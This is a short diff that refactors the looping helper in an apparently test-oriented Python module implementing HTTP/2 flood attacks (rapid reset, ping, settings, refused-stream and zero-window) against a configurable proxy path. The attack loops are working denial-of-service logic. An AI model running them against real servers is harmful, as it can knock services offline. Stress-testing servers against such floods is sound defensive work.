@@ -24,7 +24,8 @@ INITIAL_WINDOW_SIZE = 0x4
 TARGET = os.environ.get("H2ATTACK_PATH", "/proxy/delay/1000/users/1")
 
 
-def _loop(client: RawH2, send: Callable[[], bool]) -> None:
+def _loop(send: Callable[[], bool]) -> None:
+    """`send` until it fails (the server has closed the connection)."""
     while send():
         pass
 
@@ -33,7 +34,7 @@ def rapid_reset(client: RawH2) -> None:
     def send() -> bool:
         return client.reset(client.request(TARGET))
 
-    _loop(client, send)
+    _loop(send)
 
 
 def continuation(client: RawH2) -> None:
@@ -41,11 +42,11 @@ def continuation(client: RawH2) -> None:
 
 
 def ping(client: RawH2) -> None:
-    _loop(client, client.ping)
+    _loop(client.ping)
 
 
 def settings(client: RawH2) -> None:
-    _loop(client, client.settings)
+    _loop(client.settings)
 
 
 def refused(client: RawH2) -> None:
@@ -53,7 +54,7 @@ def refused(client: RawH2) -> None:
         client.request(TARGET)
         return not client.broken
 
-    _loop(client, send)
+    _loop(send)
 
 
 def zero_window(port: int) -> RawH2:
